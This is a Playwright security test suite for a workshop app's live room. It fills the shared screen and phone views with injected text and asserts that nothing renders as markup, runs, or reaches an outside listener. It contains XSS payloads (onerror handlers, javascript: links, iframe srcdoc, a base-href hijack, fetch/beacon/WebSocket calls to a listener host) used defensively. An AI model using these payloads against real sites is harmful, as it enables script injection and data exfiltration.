"""A live room over texts that are all payloads: the shared screen, a phone and Results (THREATS A1, A2)."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from preflight.access.people import LOCAL_OWNER
from preflight.domain.room import LONGEST_WHY
from preflight.domain.text import LINE
from preflight.services.rooms import open_room
from tests.beside import workspace_beside
from tests.browser.room import SharedScreen
from tests.browser.server import Server
from tests.security.hostile_data import Hostile, make_hostile
from tests.security.listener import Listener
from tests.security.payloads import MARK, Texts
from tests.security.room_client import Phone, Screen
from tests.security.test_walk import LOOK, Walk, missing, plain, walking

FIRST, SECOND, MULTI, NUMBER, TEXT = "first.q1", "first.q2", "kinds.multi", "kinds.number", "kinds.text"
PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
PEOPLE = 8


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as running:
        yield running


@dataclass(frozen=True, slots=True, kw_only=True)
class Stage:
    """A hostile room with eight people in it, what they said, and the two who look at it."""

    hostile: Hostile
    said: Texts
    screen: Screen
    people: list[Phone]
    walk: Walk
    wall: SharedScreen
    phone: Any
    url: str
    token: str

    def on_the_phone(self, where: str) -> str:
        """Nothing was injected into the phone page either; every text on it."""
        found = self.phone.evaluate(LOOK, {"mark": MARK, "origin": self.url})
        own = '<script type="module">'
        assert [each for each in found["injected"] if not each.startswith(own)] == [], where
        assert self.phone.locator("script").count() == 1, where
        assert found["links"] == [], where
        # What stands in the title is a text and no more; the phone's bears the name of the project.
        assert found["title"].endswith(("· Preflight", "Preflight")), where
        text = plain(found["text"])
        self.walk.texts.add(text)
        return text

    def on_the_wall(self, where: str) -> None:
        """As `Walk.look`, without waiting for Streamlit below."""
        found = self.wall.page.evaluate(LOOK, {"mark": MARK, "origin": self.url})
        assert found["injected"] == [], where
        assert found["links"] == [], where
        assert MARK not in found["title"], where
        self.walk.texts.add(plain(found["text"]))

    def look(self, where: str) -> None:
        self.on_the_wall(where)
        self.on_the_phone(where)

    def panel(self, key: str) -> None:
        """Open a panel by its key, look at it, and close it."""
        page = self.wall.page
        page.keyboard.press(key)
        page.locator("dialog.panel").wait_for()
        self.on_the_wall(f"the panel {key}")
        page.keyboard.press("Escape")
        page.locator("dialog.panel").wait_for(state="detached")

    def goes_to(self, question: str, stage: str = "voting") -> None:
        """Bring a question to the wall and to the phone."""
        self.screen.do("go", question=question)
        self.wall.question(plain(self.hostile.asked.given[question]))
        self.wall.at(stage)
        self.phone.locator("h1#question").filter(has_text=self.hostile.asked.given[question][:2]).wait_for()

    def reveals(self) -> None:
        self.screen.do("reveal")
        self.wall.at("revealed")
        self.phone.locator(".result").wait_for()

    def agrees(self, said: dict[str, object], name: str) -> None:
        self.screen.do("agree", said=said, why=self.said(f"reason.{name}", longest=LINE))
        self.wall.at("agreed")
        self.phone.locator("section.agreed").wait_for()


@contextmanager
def staged(
    new_page: Callable[..., Any], start_server: Callable[..., Server], folder: Path, listener: Listener, *, csp: bool
) -> Iterator[Stage]:
    hostile, said = make_hostile(folder, listener.url), Texts(listener.url)
    workspace = workspace_beside(hostile.data, questionnaires=hostile.questionnaires)
    room = open_room(workspace, LOCAL_OWNER, hostile.draft)
    workspace.database.close()
    server = start_server(data=hostile.data, environ=hostile.environ)
    with ExitStack() as stack, walking(new_page, server, hostile, csp=csp) as walk:
        screen = stack.enter_context(Screen(server.url, room.id))
        roles = ["builds"] * 4 + ["uses"] * 4
        people = [stack.enter_context(Phone(server.url, token=room.token, role=role)) for role in roles]
        wall, phone = SharedScreen(walk.page), new_page(bypass_csp=not csp, **PHONE)
        phone.on("dialog", lambda dialog: walk.dialogs.append(dialog.message))
        phone.on("pageerror", lambda error: walk.dialogs.append(str(error)))
        phone.goto(f"{server.url}/join#{room.token}")
        phone.locator(".number-plate").wait_for()
        walk.page.goto(f"{server.url}/workshop?room={room.id}")
        wall.at("lobby")
        yield Stage(
            hostile=hostile,
            said=said,
            screen=screen,
            people=people,
            walk=walk,
            wall=wall,
            phone=phone,
            url=server.url,
            token=room.token,
        )


def lobby(stage: Stage) -> None:
    page = stage.wall.page
    stage.wall.joined(PEOPLE + 1)
    stage.phone.get_by_role("radio", name="I build it").click()
    stage.look("lobby")
    page.keyboard.press("w")
    page.get_by_label("Network name").fill(f"<img class={MARK} src=x>")
    page.get_by_label("Password").fill(f"'\"><b class={MARK}>")
    stage.on_the_wall("the Wi-Fi being typed")
    page.get_by_role("button", name="Show the code").click()
    page.locator(".wifi .qr svg").wait_for()
    stage.on_the_wall("lobby with a Wi-Fi")
    for key in ("p", "g", "?"):
        stage.panel(key)


def a_choice(stage: Stage, question: str) -> None:
    page = stage.wall.page
    stage.goes_to(question)
    for at, person in enumerate(stage.people):
        why = stage.said(f"why.{question}.{at}", longest=LONGEST_WHY)
        assert person.vote({"choices": [str(3 * (at % 2))]}, why=why, question=question)["type"] == "ack"
    own = stage.said(f"why.{question}.own", longest=LONGEST_WHY)
    stage.phone.get_by_label("In one line, why?").fill(own)
    stage.phone.locator(".levels").get_by_role("radio").first.click()
    expect(stage.phone.get_by_text("Your vote is in.")).to_be_visible()
    stage.wall.voted(f"All {PEOPLE + 1} have voted")
    stage.look("voting")
    for key in ("p", "j"):
        stage.panel(key)
    page.keyboard.press("h")
    page.locator(".hand").first.wait_for()
    stage.on_the_wall("a show of hands")
    page.keyboard.press("Escape")
    stage.reveals()
    expect(page.locator(".groups.names .group")).to_have_count(2)
    stage.look("revealed, with lines and roles")
    stage.panel("c")
    stage.panel("g")
    page.keyboard.press("a")
    page.locator(".why-line").fill(f"<img class={MARK} src=x onerror=alert(1)>")
    stage.on_the_wall("agreeing")
    page.keyboard.press("Escape")
    stage.agrees({"choices": ["0"]}, question)
    stage.look("agreed")


def other_kinds(stage: Stage) -> None:
    stage.goes_to(MULTI)
    for person in stage.people:
        why = stage.said(f"why.multi.{person.number}", longest=LONGEST_WHY)
        assert person.vote({"choices": ["0", "2"]}, why=why, question=MULTI)["type"] == "ack"
    stage.look("several options")
    stage.reveals()
    stage.look("several options, revealed")
    stage.agrees({"choices": ["1"]}, MULTI)
    stage.goes_to(NUMBER)
    for person in stage.people:
        why = stage.said(f"why.number.{person.number}", longest=LONGEST_WHY)
        assert person.vote({"number": str(person.number % 7)}, why=why, question=NUMBER)["type"] == "ack"
    stage.look("a number")
    stage.reveals()
    stage.look("a number, revealed")
    stage.agrees({"not_applicable": True}, NUMBER)
    stage.look("not applicable, with a reason")
    stage.goes_to(TEXT)
    stage.look("a text")
    stage.agrees({"text": stage.said("text", longest=4_000)}, TEXT)
    stage.look("a text, agreed")


def closing(stage: Stage) -> None:
    page = stage.wall.page
    answer = stage.screen.do("closing", theme="dark")
    assert len(answer["frames"]) >= 2
    stage.wall.at("closing")
    frame = page.locator("figure.radar svg")
    frame.wait_for()
    stage.look("closing")
    for drawn in answer["frames"]:
        found = page.evaluate(
            """(frame) => {
              const drawing = new DOMParser().parseFromString(frame, "image/svg+xml").documentElement
              const all = [drawing, ...drawing.querySelectorAll("*")]
              return all.filter((each) => ["script", "a", "image", "use", "foreignObject", "style", "animate", "set",
                "iframe", "parsererror"].includes(each.localName) || each.getAttributeNames().some((name) =>
                /^on|href$/i.test(name))).map((each) => each.outerHTML.slice(0, 200))
            }""",
            drawn,
        )
        assert found == []
    page.keyboard.press("PageDown")
    page.locator("dialog.panel").wait_for()
    stage.on_the_wall("completing")
    page.get_by_role("button", name="Complete", exact=True).click()
    expect(page.get_by_role("heading", name="What the room said")).to_be_visible()
    stage.walk.fold_out()
    stage.walk.look("what the room said")
    expect(stage.phone.get_by_text("Thank you").first).to_be_visible()
    stage.on_the_phone("closed")
    stage.phone.get_by_role("button", name="Type another code").click()
    stage.phone.get_by_label("Type the code on the big screen").fill(f"<b class={MARK}>")
    stage.phone.get_by_role("button", name="Join").click()
    stage.on_the_phone("the door")


@pytest.mark.parametrize("csp", [True, False], ids=["with our policies", "without any policy"])
def test_no_text_of_a_room_becomes_more_than_text(
    csp: bool,
    start_server: Callable[..., Server],
    new_page: Callable[..., Any],
    listener: Listener,
    tmp_path: Path,
) -> None:
    with staged(new_page, start_server, tmp_path, listener, csp=csp) as stage:
        lobby(stage)
        a_choice(stage, FIRST)
        if csp:
            nothing_runs_on_the_phone(stage, listener)
        else:
            a_choice(stage, SECOND)
            other_kinds(stage)
        closing(stage)
        seen, asked = stage.walk.seen, stage.hostile.asked.given
        shown = [each for each in asked.items() if each[0] in ("title", "first") or each[0].startswith(FIRST)]
        shown = [each for each in shown if ".do." not in each[0]]
        assert len(shown) > 10
        assert missing(shown, seen) == []
        assert missing(stage.said.given.items(), seen) == []
        assert missing([("project", stage.hostile.said.given["first.name"])], seen) == []
    assert listener.hits == []


def nothing_runs_on_the_phone(stage: Stage, listener: Listener) -> None:
    """The phone page's own policy, were something injected after all: no script, no request, no frame, no style."""
    found = stage.phone.evaluate(
        """async (elsewhere) => {
          const refused = new Set()
          addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective))
          const script = (attributes, text = "") =>
            document.body.append(Object.assign(document.createElement("script"), attributes, { textContent: text }))
          script({}, "window.ran = 'inline'")
          script({ type: "module" }, "window.ran = 'module'")
          script({ src: elsewhere + "/script.js" })
          script({ src: "data:text/javascript,window.ran='data'" })
          document.body.insertAdjacentHTML("beforeend", `<img src="${elsewhere}/image" onerror="window.ran = 'handler'">
            <a id="js" href="javascript:window.ran='link'">x</a><iframe srcdoc="<script>parent.ran = 'frame'</s` +
            `cript>"></iframe><style>body { background: url(${elsewhere}/style) }</style><object data="${elsewhere}/o">
            </object><base href="${elsewhere}/"><form id="f" action="${elsewhere}/form"></form>
            <p style="background: url(${elsewhere}/attribute)"></p>`)
          document.getElementById("js").click()
          document.getElementById("f").submit()
          await fetch(elsewhere + "/fetch").catch(() => null)
          navigator.sendBeacon?.(elsewhere + "/beacon")
          try { new WebSocket(elsewhere.replace("http", "ws") + "/socket") } catch {}
          const evaluated = () => { try { (0, eval)("window.ran = 'eval'") } catch {} }
          setTimeout(evaluated) // what the debugger itself calls, may
          try { new Worker("data:text/javascript,0") } catch {}
          await new Promise((done) => setTimeout(done, 300))
          return { ran: window.ran ?? null, refused: [...refused], base: document.baseURI }
        }""",
        listener.url,
    )
    assert found["ran"] is None
    assert found["base"].startswith(stage.url)
    assert {"script-src-elem", "script-src-attr", "connect-src", "img-src", "form-action"} <= set(found["refused"])
    assert {"style-src-elem", "base-uri"} <= set(found["refused"])
    assert listener.hits == []
    stage.phone.reload()
    stage.phone.locator("section.agreed").wait_for()
